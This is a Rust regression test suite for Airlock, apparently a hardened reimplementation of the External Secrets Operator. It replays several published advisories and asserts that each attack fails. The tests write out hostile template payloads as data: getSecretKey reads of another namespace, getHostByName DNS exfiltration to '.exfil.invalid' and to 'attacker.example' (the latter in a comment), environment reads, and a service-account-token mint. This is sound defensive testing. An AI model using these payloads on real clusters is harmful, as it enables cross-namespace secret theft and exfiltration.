//! One regression test per published External Secrets Operator advisory, each replaying the
//! attack against the operator on a real kube-apiserver (with kube-controller-manager's
//! service-account-token controller running) and showing that it fails here.
//!
//! Every test has two namespaces: the attacker's, where the operator runs (scoped to it, but
//! with cluster-admin credentials, so only the controllers' own rules stand between the
//! attacker and the victim), and the victim's, holding what the attacker is after.

mod cluster;

use cluster::{apply, eventually, failure_event, install_crds, ready_message, warning_event};

use airlock::crd::{ExternalSecret, PushSecret, SecretStore};
use airlock_testenv::ControlPlane;
use airlock_testenv::fakes::gitlab::{FakeGitLab, Variable};
use k8s_openapi::api::core::v1::{ConfigMap, Secret, ServiceAccount};
use kube::Client;
use kube::api::Api;
use serde_json::{Value, json};

/// The GitLab token the fake accepts; the victim's Secret holds it.
const TOKEN: &str = "glpat-victim-only";
/// A value only the victim's namespace holds.
const VICTIM_VALUE: &str = "victim-password-7f3a";

/// One test's world: the attacker's namespace (the operator's scope), the victim's, and a
/// fake GitLab whose token only the victim has.
struct Env {
    client: Client,
    ns: String,
    victim: String,
    gitlab: FakeGitLab,
    _providers: tempfile::TempDir,
}

async fn start(prefix: &str) -> Env {
    let cp = ControlPlane::shared();
    let client = cp.client();
    install_crds(&client).await;
    let ns = cp.new_namespace(prefix).await.expect("namespace");
    let victim = cp
        .new_namespace(&format!("{prefix}-victim"))
        .await
        .expect("victim namespace");
    let (runtime, providers) = cluster::run_operator(
        &client,
        &ns,
        &[
            (airlock_test_artifacts::FAKE, "fake.wasm"),
            (airlock_test_artifacts::GITLAB, "gitlab.wasm"),
        ],
    );
    cluster::apply_fake_provider(&client).await;
    cluster::apply_provider(&client, "gitlab", "gitlab.wasm", &["http://127.0.0.1:*"]).await;
    eventually("both providers loaded in this operator", || async {
        runtime.provider("fake")?;
        runtime.provider("gitlab").map(|_| ())
    })
    .await;

    let gitlab = FakeGitLab::start(TOKEN);
    gitlab
        .add_project(42, "victim/app", None)
        .set_project_variable(42, Variable::new("DB_PASSWORD", VICTIM_VALUE));
    let env = Env {
        client,
        ns,
        victim,
        gitlab,
        _providers: providers,
    };
    env.victim_object::<Secret>(json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": "gitlab-token"}, "stringData": {"token": TOKEN}}))
        .await;
    env.victim_object::<Secret>(json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": "db", "labels": {"push": "me"}},
        "stringData": {"password": VICTIM_VALUE}}))
        .await;
    env
}

impl Env {
    fn api<K>(&self) -> Api<K>
    where
        K: kube::Resource<Scope = kube::core::NamespaceResourceScope>,
        K::DynamicType: Default,
    {
        Api::namespaced(self.client.clone(), &self.ns)
    }

    /// Applies `value` in the victim's namespace.
    async fn victim_object<K>(&self, value: Value)
    where
        K: kube::Resource<Scope = kube::core::NamespaceResourceScope>
            + Clone
            + serde::de::DeserializeOwned
            + serde::Serialize
            + std::fmt::Debug,
        K::DynamicType: Default,
    {
        apply(
            &Api::<K>::namespaced(self.client.clone(), &self.victim),
            value,
        )
        .await;
    }

    /// The attacker's `fake` SecretStore `name`, holding one harmless value.
    async fn fake_store(&self, name: &str) {
        apply(
            &self.api::<SecretStore>(),
            json!({"apiVersion": "external-secrets.io/v1", "kind": "SecretStore",
                   "metadata": {"name": name},
                   "spec": {"provider": {"fake": {"data": [
                       {"key": "mine", "value": "attacker-own-value"}]}}}}),
        )
        .await;
    }

    /// The attacker's `gitlab` SecretStore `name` on the fake GitLab, with `extra` merged
    /// into its provider config.
    async fn gitlab_store(&self, name: &str, extra: Value) {
        let mut config = json!({"url": self.gitlab.url(), "projectID": "42",
            "auth": {"SecretRef": {"accessToken": {"name": "gitlab-token", "key": "token"}}}});
        merge(&mut config, extra);
        apply(
            &self.api::<SecretStore>(),
            json!({"apiVersion": "external-secrets.io/v1", "kind": "SecretStore",
                   "metadata": {"name": name},
                   "spec": {"provider": {"gitlab": config}}}),
        )
        .await;
    }

    /// An ExternalSecret reading `mine` from the fake store `fake` as `value`, with
    /// `template` (and `annotations`) when given.
    async fn external_secret(&self, name: &str, template: Option<Value>, annotations: Value) {
        let mut target = json!({"name": name});
        if let Some(t) = template {
            target["template"] = t;
        }
        apply(
            &self.api::<ExternalSecret>(),
            json!({"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
                   "metadata": {"name": name, "annotations": annotations},
                   "spec": {"refreshInterval": "1h",
                            "secretStoreRef": {"name": "fake", "kind": "SecretStore"},
                            "target": target,
                            "data": [{"secretKey": "value", "remoteRef": {"key": "mine"}}]}}),
        )
        .await;
    }

    /// Waits for the ExternalSecret's `Ready=False` with ESO's fixed `message`, and returns
    /// the Warning event's note mentioning `needle`.
    async fn refused(&self, name: &str, message: &str, needle: &str) -> String {
        ready_message(&self.api::<ExternalSecret>(), name, "False", message).await;
        failure_event(&self.client, &self.ns, name, needle).await
    }

    /// Waits for the SecretStore's `Ready=False` and returns the note of its Warning event
    /// mentioning `needle`.
    async fn store_refused(&self, name: &str, needle: &str) -> String {
        ready_message(&self.api::<SecretStore>(), name, "False", "").await;
        warning_event(
            &self.client,
            &self.ns,
            "SecretStore",
            name,
            "InvalidProviderConfig",
            needle,
        )
        .await
    }

    async fn secret(&self, name: &str) -> Option<Secret> {
        self.api::<Secret>()
            .get_opt(name)
            .await
            .expect("get Secret")
    }
}

/// Merges the object `extra` into `into`, key by key, recursively.
fn merge(into: &mut Value, extra: Value) {
    match (into, extra) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in b {
                merge(a.entry(k).or_insert(Value::Null), v);
            }
        }
        (slot, v) => *slot = v,
    }
}

/// GHSA-77v3-r3jw-j2v2 (CVE-2026-22822, critical): ESO's `getSecretKey` template function
/// read any Secret of any namespace with the controller's own permissions. Airlock's template
/// engine has no function that reads from Kubernetes: the template fails to parse, nothing is
/// written, and the victim's value appears nowhere.
#[tokio::test]
async fn ghsa_77v3_r3jw_j2v2_templates_cannot_read_secrets_of_another_namespace() {
    let env = start("adv-getsecretkey").await;
    env.fake_store("fake").await;
    let steal = format!(r#"{{{{ getSecretKey "db" "{}" "password" }}}}"#, env.victim);
    env.external_secret("steal", Some(json!({"data": {"stolen": steal}})), json!({}))
        .await;
    let note = env
        .refused("steal", "could not update secret", "getSecretKey")
        .await;
    assert!(note.contains("not defined"), "{note}");
    assert!(!note.contains(VICTIM_VALUE), "{note}");
    assert!(env.secret("steal").await.is_none());

    // templateFrom has no namespace: a Secret named like the victim's is looked up in the
    // attacker's own namespace, where it does not exist.
    env.external_secret(
        "steal-from",
        Some(json!({"templateFrom": [{"secret": {"name": "db", "items": [{"key": "password"}]}}]})),
        json!({}),
    )
    .await;
    let note = env
        .refused("steal-from", "could not update secret", "db")
        .await;
    assert!(!note.contains(VICTIM_VALUE), "{note}");
    assert!(env.secret("steal-from").await.is_none());
}

/// The rule GHSA-77v3-r3jw-j2v2 broke, on the paths it is meant to hold on: an
/// ExternalSecret can name only stores of its own namespace, and a SecretStore only
/// credentials of its own namespace. A store whose token selector names the victim's
/// namespace is refused before the provider ever sends the victim's token.
#[tokio::test]
async fn ghsa_77v3_r3jw_j2v2_stores_and_their_credentials_stay_in_their_namespace() {
    let env = start("adv-crossns").await;
    // The victim's own store: the attacker's ExternalSecret names it and finds nothing.
    env.victim_object::<SecretStore>(json!({
        "apiVersion": "external-secrets.io/v1", "kind": "SecretStore",
        "metadata": {"name": "victim-store"},
        "spec": {"provider": {"fake": {"data": [{"key": "mine", "value": VICTIM_VALUE}]}}}}))
        .await;
    apply(
        &env.api::<ExternalSecret>(),
        json!({"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
               "metadata": {"name": "borrow-store"},
               "spec": {"secretStoreRef": {"name": "victim-store", "kind": "SecretStore"},
                        "target": {"name": "borrow-store"},
                        "data": [{"secretKey": "value", "remoteRef": {"key": "mine"}}]}}),
    )
    .await;
    let note = env
        .refused(
            "borrow-store",
            "could not get secret data from provider",
            "victim-store",
        )
        .await;
    assert!(note.contains("(StoreNotFound)"), "{note}");
    assert!(env.secret("borrow-store").await.is_none());

    // A SecretStore borrowing the victim's GitLab token.
    let victim = env.victim.clone();
    env.gitlab_store(
        "borrow-token",
        json!({"auth": {"SecretRef": {"accessToken": {"namespace": victim}}}}),
    )
    .await;
    let note = env
        .store_refused("borrow-token", "may only read its own namespace")
        .await;
    assert!(!note.contains(TOKEN), "{note}");
    apply(
        &env.api::<ExternalSecret>(),
        json!({"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
               "metadata": {"name": "borrow-token"},
               "spec": {"secretStoreRef": {"name": "borrow-token", "kind": "SecretStore"},
                        "target": {"name": "borrow-token"},
                        "data": [{"secretKey": "value", "remoteRef": {"key": "DB_PASSWORD"}}]}}),
    )
    .await;
    ready_message(
        &env.api::<ExternalSecret>(),
        "borrow-token",
        "False",
        "could not get secret data from provider",
    )
    .await;
    assert!(env.secret("borrow-token").await.is_none());
    let accepted: Vec<_> = env
        .gitlab
        .requests()
        .into_iter()
        .filter(|r| r.authenticated)
        .collect();
    assert!(
        accepted.is_empty(),
        "the victim's token reached GitLab: {accepted:?}"
    );
}

/// GHSA-r2pg-r6h7-crf3 (CVE-2026-34984, high): ESO's templates kept sprig's `getHostByName`,
/// so a template could leak fetched values through DNS queries made by the controller
/// (`{{ getHostByName (printf "%s.attacker.example" .password) }}`). Here neither dialect
/// has a function that resolves names, opens connections or reads the environment (the tera
/// engine runs inside a Wasm component with no network at all): each attempt fails before
/// rendering, and the value is in no error.
#[tokio::test]
async fn ghsa_r2pg_r6h7_crf3_templates_cannot_resolve_names_or_read_the_environment() {
    let env = start("adv-dns").await;
    env.fake_store("fake").await;
    let go = [
        (
            "dns",
            r#"{{ getHostByName (printf "%s.exfil.invalid" .value) }}"#,
            "getHostByName",
        ),
        ("env", r#"{{ env "HOME" }}"#, "env"),
        ("expandenv", r#"{{ expandenv "$HOME" }}"#, "expandenv"),
    ];
    for (name, template, _) in go {
        env.external_secret(name, Some(json!({"data": {"x": template}})), json!({}))
            .await;
    }
    env.external_secret(
        "tera-env",
        Some(json!({"data": {"x": r#"{{ get_env(name="HOME") }}"#}})),
        json!({"airlock.dev/template-engine": "tera"}),
    )
    .await;
    for (name, _, function) in go {
        let note = env.refused(name, "could not update secret", function).await;
        assert!(note.contains("not defined"), "{name}: {note}");
        assert!(!note.contains("attacker-own-value"), "{name}: {note}");
        assert!(env.secret(name).await.is_none(), "{name}");
    }
    let note = env
        .refused("tera-env", "could not update secret", "get_env is disabled")
        .await;
    assert!(!note.contains("attacker-own-value"), "{note}");
    assert!(env.secret("tera-env").await.is_none());
}

/// GHSA-fq7h-9x26-6j22 (CVE-2026-42876): an ExternalSecret templated as a
/// `kubernetes.io/service-account-token` Secret annotated with a ServiceAccount made the
/// operator create a Secret that kube-controller-manager fills with a long-lived token of
/// that ServiceAccount. Airlock refuses both token types with reason `ForbiddenSecretType`
/// and writes nothing; the same ExternalSecret with an ordinary type syncs, and no token
/// appears in it.
#[tokio::test]
async fn ghsa_fq7h_9x26_6j22_an_external_secret_cannot_mint_a_service_account_token() {
    let env = start("adv-satoken").await;
    env.fake_store("fake").await;
    apply(
        &env.api::<ServiceAccount>(),
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "deployer"}}),
    )
    .await;
    let template = |type_: &str| {
        json!({"type": type_,
               "metadata": {"annotations": {"kubernetes.io/service-account.name": "deployer"}}})
    };
    env.external_secret(
        "mint",
        Some(template("kubernetes.io/service-account-token")),
        json!({}),
    )
    .await;
    env.external_secret(
        "bootstrap",
        Some(json!({"type": "bootstrap.kubernetes.io/token"})),
        json!({}),
    )
    .await;
    for (name, type_) in [
        ("mint", "kubernetes.io/service-account-token"),
        ("bootstrap", "bootstrap.kubernetes.io/token"),
    ] {
        let note = env
            .refused(name, "could not update secret", "(ForbiddenSecretType)")
            .await;
        assert!(note.contains(type_), "{note}");
        assert!(note.contains("GHSA-fq7h-9x26-6j22"), "{note}");
        assert!(env.secret(name).await.is_none(), "{name} was written");
    }

    // Proof that the refusal, not something else, stopped it: with type Opaque it syncs.
    env.external_secret("mint", Some(template("Opaque")), json!({}))
        .await;
    ready_message(
        &env.api::<ExternalSecret>(),
        "mint",
        "True",
        "secret synced",
    )
    .await;
    let secret = env.secret("mint").await.expect("the Opaque Secret");
    assert_eq!(secret.type_.as_deref(), Some("Opaque"));
    let keys: Vec<_> = secret.data.unwrap_or_default().into_keys().collect();
    assert_eq!(keys, ["value"], "no token was added");
}

/// GHSA-wv26-88m5-6h59 (CVE-2026-42875): a namespaced SecretStore's `caProvider.namespace`
/// made ESO read CA material (and reveal whether it exists) from another namespace. Airlock
/// refuses such a store before reading anything, saying what to change; `caProvider`
/// without a namespace reads the store's own namespace.
#[tokio::test]
async fn ghsa_wv26_88m5_6h59_a_secret_store_ca_provider_cannot_name_another_namespace() {
    let env = start("adv-caprovider").await;
    let pem = ControlPlane::shared().ca_cert_pem().to_string();
    let ca = |ns: &str| {
        json!({"apiVersion": "v1", "kind": "ConfigMap",
               "metadata": {"name": "ca", "namespace": ns}, "data": {"ca.crt": pem}})
    };
    env.victim_object::<ConfigMap>(ca(&env.victim)).await;
    let victim = env.victim.clone();
    env.gitlab_store(
        "foreign-ca",
        json!({"caProvider": {"type": "ConfigMap", "name": "ca", "key": "ca.crt",
                              "namespace": victim}}),
    )
    .await;
    let note = env
        .store_refused(
            "foreign-ca",
            "caProvider: a SecretStore may only read its own namespace",
        )
        .await;
    assert!(note.contains("remove caProvider.namespace"), "{note}");

    // The same CA in the store's own namespace, named without a namespace, is used.
    apply(&env.api::<ConfigMap>(), ca(&env.ns)).await;
    apply(
        &env.api::<Secret>(),
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "gitlab-token"},
               "stringData": {"token": TOKEN}}),
    )
    .await;
    env.gitlab_store(
        "own-ca",
        json!({"caProvider": {"type": "ConfigMap", "name": "ca", "key": "ca.crt"}}),
    )
    .await;
    ready_message(&env.api::<SecretStore>(), "own-ca", "True", "").await;
}

/// GHSA-fcxq-v2r3-cc8h (CVE-2025-55196, high): ESO's PushSecret controller listed Secrets
/// (and SecretStores) for label selectors in every namespace, so a PushSecret could push
/// any namespace's Secret to a store its author controls. Here a selector matching only the
/// victim's Secret pushes nothing, one matching only the victim's store finds no store, and
/// the attacker's own labelled Secret is what gets pushed.
#[tokio::test]
async fn ghsa_fcxq_v2r3_cc8h_push_secret_selectors_see_only_their_own_namespace() {
    let env = start("adv-pushlist").await;
    env.fake_store("fake").await;
    env.victim_object::<SecretStore>(json!({
        "apiVersion": "external-secrets.io/v1", "kind": "SecretStore",
        "metadata": {"name": "victim-store", "labels": {"team": "victim"}},
        "spec": {"provider": {"fake": {"data": []}}}}))
        .await;
    let push = |name: &str, store_ref: Value| {
        json!({"apiVersion": "external-secrets.io/v1alpha1", "kind": "PushSecret",
               "metadata": {"name": name},
               "spec": {"refreshInterval": "1s",
                        "secretStoreRefs": [store_ref],
                        "selector": {"secret": {"selector": {"matchLabels": {"push": "me"}}}},
                        "data": [{"match": {"secretKey": "password",
                                            "remoteRef": {"remoteKey": "exfil"}}}]}})
    };
    let pushes = env.api::<PushSecret>();
    apply(
        &pushes,
        push(
            "by-store-label",
            json!({"kind": "SecretStore", "labelSelector": {"matchLabels": {"team": "victim"}}}),
        ),
    )
    .await;
    ready_message(
        &pushes,
        "by-store-label",
        "False",
        "no SecretStore matches the labelSelector",
    )
    .await;

    apply(
        &pushes,
        push(
            "by-secret-label",
            json!({"name": "fake", "kind": "SecretStore"}),
        ),
    )
    .await;
    ready_message(&pushes, "by-secret-label", "True", "").await;
    let ps = pushes.get("by-secret-label").await.expect("the PushSecret");
    let synced = serde_json::to_value(&ps.status).expect("status");
    assert!(
        synced["syncedPushSecrets"].as_object().is_none_or(|m| m
            .values()
            .all(|v| v.as_object().is_none_or(|e| e.is_empty()))),
        "something was pushed: {synced}"
    );
    // What the store holds under `exfil`, read back by an ExternalSecret (refreshing every
    // second, so it never reuses what another reader read before the push).
    let reader = |name: &str| {
        json!({"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
               "metadata": {"name": name},
               "spec": {"refreshInterval": "1s",
                        "secretStoreRef": {"name": "fake", "kind": "SecretStore"},
                        "target": {"name": name},
                        "data": [{"secretKey": "exfil", "remoteRef": {"key": "exfil"}}]}})
    };
    let external_secrets = env.api::<ExternalSecret>();
    apply(&external_secrets, reader("before")).await;
    let note = env
        .refused(
            "before",
            "could not get secret data from provider",
            "secret does not exist at provider",
        )
        .await;
    assert!(!note.contains(VICTIM_VALUE), "{note}");
    assert!(env.secret("before").await.is_none());

    // The attacker's own Secret with the same label is pushed, and only it.
    apply(
        &env.api::<Secret>(),
        json!({"apiVersion": "v1", "kind": "Secret",
               "metadata": {"name": "own", "labels": {"push": "me"}},
               "stringData": {"password": "attacker-own-password"}}),
    )
    .await;
    eventually("the attacker's own Secret pushed", || async {
        let ps = pushes.get("by-secret-label").await.ok()?;
        let status = serde_json::to_value(ps.status?).ok()?;
        status["syncedPushSecrets"]["SecretStore/fake"]
            .as_object()
            .is_some_and(|m| !m.is_empty())
            .then_some(())
    })
    .await;
    apply(&external_secrets, reader("after")).await;
    ready_message(&external_secrets, "after", "True", "").await;
    let secrets = env.api::<Secret>();
    assert_eq!(
        cluster::secret_text(&secrets, "after").await,
        Some(cluster::string_map(&[("exfil", "attacker-own-password")]))
    );
}
